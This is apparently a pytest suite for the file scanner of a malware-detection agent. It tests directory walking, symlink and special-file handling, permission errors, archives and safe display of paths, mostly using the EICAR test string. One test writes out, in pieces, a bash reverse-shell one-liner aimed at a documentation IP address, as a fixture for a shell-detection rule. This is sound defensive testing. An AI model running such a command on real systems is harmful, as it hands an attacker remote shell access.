"""A scan sees every ordinary file once, nothing else, and says what it did not see."""

import ctypes
import dataclasses
import os
import socket
import struct
import subprocess
import sys
from pathlib import Path

import pytest
from agent.tests.long_paths import beside_too_long, deeper_than_a_path
from hypothesis import given
from hypothesis import strategies as st

from doorward_agent import config as settings_of_agent
from doorward_agent import inspection, paths, scan
from doorward_agent.config import AgentConfig
from doorward_agent.definitions.build import eicar


def _scan(place: Path, config: AgentConfig) -> tuple[list[scan.Detection], scan.ScanSummary]:
    run = scan.run([place], config)
    return list(run), run.summary


def test_the_test_file_among_clean_ones_is_found(home: Path, config: AgentConfig) -> None:
    for number in range(100):
        (home / f"letter-{number}").write_text(f"Dear Bob, {number}")
    deep = home / "a" / "b" / "c"
    deep.mkdir(parents=True)
    (deep / "x.com").write_bytes(eicar())

    (found,), summary = _scan(home, config)

    assert found.path == os.fspath(deep / "x.com")
    assert found.location == os.fsencode(deep / "x.com")
    assert found.sha256 == "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"
    assert (found.size, found.rule, found.engine, found.kind) == (
        68,
        "DW-TEST-0001",
        "yara",
        "test",
    )
    assert found.also == ("DW-HASH",)
    assert found.member == ""
    assert (summary.files, summary.scanned, summary.detections) == (101, 101, 1)
    assert summary.bytes == 68 + sum(len(f"Dear Bob, {number}") for number in range(100))
    assert summary.complete
    assert summary.started_at <= found.found_at <= summary.ended_at


def test_a_single_file_is_scanned(eicar_file: Path, config: AgentConfig) -> None:
    found, summary = _scan(eicar_file, config)
    assert len(found) == 1
    assert summary.files == 1


def test_links_met_on_the_way_are_not_followed(home: Path, config: AgentConfig) -> None:
    outside = home.parent / "outside"
    outside.mkdir()
    (outside / "x.com").write_bytes(eicar())
    (home / "folder").symlink_to(outside)
    (home / "file").symlink_to(outside / "x.com")
    (home / "round").symlink_to(home)

    found, summary = _scan(home, config)

    assert found == []
    assert summary.skipped == {"link": 3}


def test_a_link_named_by_a_person_means_its_target(home: Path, config: AgentConfig) -> None:
    (home / "x.com").write_bytes(eicar())
    (home.parent / "link").symlink_to(home)
    (found,), _ = _scan(home.parent / "link", config)
    assert found.path == os.fspath(home / "x.com")


def test_what_is_no_ordinary_file_is_never_opened(home: Path, config: AgentConfig) -> None:
    os.mkfifo(home / "pipe")
    with socket.socket(socket.AF_UNIX) as listening:
        # A path of at most 107 bytes: bind by a short relative name.
        here = Path.cwd()
        os.chdir(home)
        try:
            listening.bind("socket")
        finally:
            os.chdir(here)
        found, summary = _scan(home, config)
    assert found == []
    assert summary.skipped == {"special": 2}
    assert summary.files == 0


def test_a_file_that_turns_into_a_pipe_does_not_hang(
    home: Path, config: AgentConfig, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = home / "x"
    target.write_text("ordinary")
    real_open = inspection._opened

    def swap_then_open(path: bytes) -> int:
        target.unlink()
        os.mkfifo(target)
        return real_open(path)

    monkeypatch.setattr(inspection, "_opened", swap_then_open)
    found, summary = _scan(home, config)
    assert found == []
    assert summary.errors == {"changed": 1}


def test_a_file_swapped_for_a_link_is_not_read(
    home: Path, config: AgentConfig, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = home / "x"
    target.write_text("ordinary")
    (home.parent / "secret").write_bytes(eicar())
    real_open = inspection._opened

    def swap_then_open(path: bytes) -> int:
        target.unlink()
        target.symlink_to(home.parent / "secret")
        return real_open(path)

    monkeypatch.setattr(inspection, "_opened", swap_then_open)
    found, summary = _scan(home, config)
    assert found == []
    assert sum(summary.errors.values()) == 1


def test_the_agents_own_state_is_left_out(config: AgentConfig) -> None:
    (config.state_dir / "x.com").write_bytes(eicar())
    for place in (config.state_dir, config.state_dir.parent):
        found, summary = _scan(place, config)
        assert found == []
        assert summary.skipped["own-file"] == 1


def test_the_kernels_views_are_left_out(config: AgentConfig) -> None:
    for place in (Path("/proc"), Path("/proc/self"), Path("/sys/kernel")):
        found, summary = _scan(place, config)
        assert (found, summary.files, summary.skipped) == ([], 0, {"kernel-view": 1})


def test_what_is_excluded_is_left_out(home: Path, config: AgentConfig) -> None:
    for name in ("kept", "left", "file"):
        (home / name).mkdir()
        (home / name / "x.com").write_bytes(eicar())
    chosen = dataclasses.replace(
        config, excluded=(os.fspath(home / "left"), os.fspath(home / "file" / "x.com"))
    )
    (found,), summary = _scan(home, chosen)
    assert found.path == os.fspath(home / "kept" / "x.com")
    assert summary.skipped == {"excluded": 2}


def test_what_is_too_large_is_told(home: Path, config: AgentConfig) -> None:
    with (home / "huge").open("wb") as target:
        target.truncate(10_000)
    found, summary = _scan(home, dataclasses.replace(config, max_file_bytes=9_999))
    assert found == []
    assert summary.skipped == {"too-large": 1}
    assert summary.notes == (scan.Note(os.fspath(home / "huge"), "too-large"),)


def test_a_file_larger_than_a_window_is_seen_across_the_seam(
    home: Path, config: AgentConfig
) -> None:
    small = dataclasses.replace(config, window_bytes=4096, window_overlap_bytes=512)
    shell = b"ba" + b"sh -i >& /dev" + b"/tcp/192.0.2.7/4444 0>&1\n"
    for at in (0, 4080, 3600, 20_000):
        (home / f"script-{at}").write_bytes(b"\n" * at + shell + b"\n" * 9000)
    (home / "clean").write_bytes(b"\n" * 50_000)

    found, summary = _scan(home, small)

    assert len(found) == 4
    assert {one.rule for one in found} == {"DW-SHELL-0001"}
    assert summary.complete


def test_an_archive_larger_than_a_window_is_opened(home: Path, config: AgentConfig) -> None:
    import zipfile

    small = dataclasses.replace(config, window_bytes=4096, window_overlap_bytes=512)
    with zipfile.ZipFile(home / "big.zip", "w") as archive:
        archive.writestr("noise", os.urandom(100_000))
        archive.writestr("x.com", eicar())
    (found,), _ = _scan(home, small)
    assert found.member == "x.com"


def test_what_may_not_be_read_is_told_not_clean(home: Path, config: AgentConfig) -> None:
    (home / "secret").write_text("x")
    (home / "secret").chmod(0)
    (home / "closed").mkdir(mode=0)
    (home / "closed").chmod(0)
    child = os.fork()
    if child == 0:
        outcome = 1
        try:
            _obey_permissions()
            _, summary = _scan(home, config)
            told = summary.errors == {"no-permission": 2} and not summary.complete
            outcome = 0 if told else 2
        finally:
            os._exit(outcome)
    assert os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 0


def _obey_permissions() -> None:
    """Give up root's right to read what its mode forbids; capabilities(7), capset(2).

    Becoming somebody else would not do: they may not even read this Python, where it is root's.
    """
    if os.geteuid() != 0:
        return
    version_3, dac_override, dac_read_search = 0x20080522, 1 << 1, 1 << 2
    header, data = struct.pack("=Ii", version_3, 0), ctypes.create_string_buffer(24)
    libc = ctypes.CDLL(None, use_errno=True)
    assert libc.capget(header, data) == 0
    effective, permitted, *others = struct.unpack("=6I", data.raw)
    effective &= ~(dac_override | dac_read_search)
    assert libc.capset(header, struct.pack("=6I", effective, permitted, *others)) == 0


@pytest.mark.skipif(os.geteuid() != 0, reason="only root has rights to give up")
def test_root_reads_what_nobody_may_through_a_worker_that_is_nobody(
    home: Path, config: AgentConfig
) -> None:
    (home / "secret.com").write_bytes(eicar())
    (home / "secret.com").chmod(0o600)
    home.chmod(0o700)
    (home / "letter").write_text("Dear Bob")
    run = scan.run([home], config)
    seen = []
    for _ in run:
        for pid in run.worker_pids:
            told = Path(f"/proc/{pid}/status").read_text()
            seen.append([line.split()[1:] for line in told.splitlines() if "id:\t65534" in line])
    assert seen
    for of_worker in seen:
        assert of_worker == [["65534"] * 4, ["65534"] * 4]


def test_a_file_gone_before_it_is_opened_is_told(
    home: Path, config: AgentConfig, monkeypatch: pytest.MonkeyPatch
) -> None:
    (home / "x").write_text("x")
    real_open = inspection._opened

    def remove_then_open(path: bytes) -> int:
        (home / "x").unlink()
        return real_open(path)

    monkeypatch.setattr(inspection, "_opened", remove_then_open)
    _, summary = _scan(home, config)
    assert summary.errors == {"gone": 1}


def test_an_empty_file_is_clean_without_being_read(home: Path, config: AgentConfig) -> None:
    (home / "empty").touch()
    run = scan.run([home], config)
    assert list(run) == []
    assert run.worker_pids == []
    assert run.summary.scanned == 1


@pytest.mark.parametrize("path", ["/nonexistent", "", "a\0b", "/dev/null"])
def test_what_cannot_be_scanned_is_refused_by_name(path: str, config: AgentConfig) -> None:
    if path == "":
        path = "/nonexistent/"
    with pytest.raises(scan.NothingToScan):
        scan.run([path], config)


def test_cancelling_stops_and_says_so(home: Path, config: AgentConfig) -> None:
    for number in range(500):
        (home / f"letter-{number}").write_text(f"Dear Bob, {number}")
    asked = 0

    def cancel() -> bool:
        nonlocal asked
        asked += 1
        return asked > 3

    run = scan.run([home], config, cancel=cancel)
    assert list(run) == []
    assert run.summary.cancelled
    assert not run.summary.complete
    assert run.summary.scanned < 500
    assert run.worker_pids == []


def test_progress_is_told_and_ends_with_everything(home: Path, config: AgentConfig) -> None:
    for number in range(50):
        (home / f"letter-{number}").write_text(f"Dear Bob, {number}")
    (home / "\x1b[31mred").write_bytes(eicar())
    told: list[scan.Progress] = []
    list(scan.run([home], dataclasses.replace(config, progress_interval=0.0), progress=told.append))
    assert len(told) > 3
    assert [one.files for one in told] == sorted(one.files for one in told)
    assert (told[-1].files, told[-1].detections) == (51, 1)
    assert all(one.path.isprintable() for one in told)


def test_leaving_a_run_early_leaves_no_process(home: Path, config: AgentConfig) -> None:
    for number in range(20):
        (home / f"{number}.com").write_bytes(eicar() + b" " * number)
    run = scan.run([home], config)
    with run:
        iterator = iter(run)
        next(iterator)
        pids = run.worker_pids
        assert pids
    for pid in pids:
        assert not Path(f"/proc/{pid}").exists()
    iterator.close()  # type: ignore[attr-defined]  # a generator


def test_names_in_any_bytes_are_scanned_and_shown_clean(home: Path, config: AgentConfig) -> None:
    names = [b"\xff\xfe", b"new\nline", b"\x1b[2J", "\u202etxt.exe".encode(), b"a" * 255]
    for number, name in enumerate(names):
        with open(os.fsencode(home) + b"/" + name, "wb") as target:  # noqa: PTH123 (no text)
            target.write(eicar() + b" " * number)
    found, _ = _scan(home, config)
    assert {os.path.basename(one.location) for one in found} == set(names)  # noqa: PTH119
    for one in found:
        assert one.path.isprintable()
        one.path.encode()


@given(st.binary(max_size=300).filter(lambda raw: b"\0" not in raw))
def test_any_path_is_shown_as_clean_text(raw: bytes) -> None:
    shown = paths.readable(raw)
    shown.encode()
    assert shown.isprintable()
    assert len(shown) <= paths.LONGEST_SHOWN


def test_plain_paths_are_shown_as_they_are() -> None:
    assert paths.readable("/home/Zoë/Привет мир.txt") == "/home/Zoë/Привет мир.txt"
    assert paths.readable(b"/a\xffb") == "/a\\xffb"
    assert paths.readable("a\u202eb") == "a\\u202eb"


def test_a_state_folder_others_can_write_to_is_refused(home: Path, config: AgentConfig) -> None:
    config.state_dir.chmod(0o777)
    with pytest.raises(settings_of_agent.StateUnusable, match="others can write"):
        scan.run([home], config)


def test_the_state_folder_is_where_the_person_keeps_state(tmp_path: Path) -> None:
    chosen = settings_of_agent.default_state_dir({"DOORWARD_AGENT_STATE": os.fspath(tmp_path)})
    assert chosen == tmp_path
    if os.geteuid() == 0:
        assert os.fspath(settings_of_agent.default_state_dir({})) == "/var/lib/doorward-agent"


def test_scanning_changes_no_access_time(home: Path, config: AgentConfig) -> None:
    target = home / "letter"
    target.write_text("Dear Bob")
    os.utime(target, ns=(10**18, 10**18))
    _scan(home, config)
    assert target.stat().st_atime_ns == 10**18


def test_nothing_is_left_running_after_a_scan(home: Path, config: AgentConfig) -> None:
    (home / "x.com").write_bytes(eicar())
    _scan(home, config)
    told = subprocess.run(  # noqa: S603 (ps of the system)
        ["ps", "--ppid", str(os.getpid()), "-o", "args="],  # noqa: S607
        capture_output=True,
        text=True,
        check=False,
    ).stdout
    assert "engines.worker" not in told


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="PATH_MAX is Linux's here")
def test_what_lies_deeper_than_a_path_may_be_long_is_told_and_not_taken_for_clean(
    config: AgentConfig, home: Path
) -> None:
    deeper_than_a_path(home)
    run = scan.run([home], config)
    assert list(run) == []
    assert run.summary.errors == {"path-too-long": 1}
    assert not run.summary.complete
    (note,) = run.summary.notes
    assert note.reason == "path-too-long"


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="PATH_MAX is Linux's here")
def test_one_file_that_goes_while_its_folder_is_listed_hides_none_beside_it(
    config: AgentConfig, home: Path
) -> None:
    # A path too long does it without a race.
    beside_too_long(home)
    run = scan.run([home], config)
    assert len(list(run)) == 8
    assert run.summary.errors == {"path-too-long": 8}
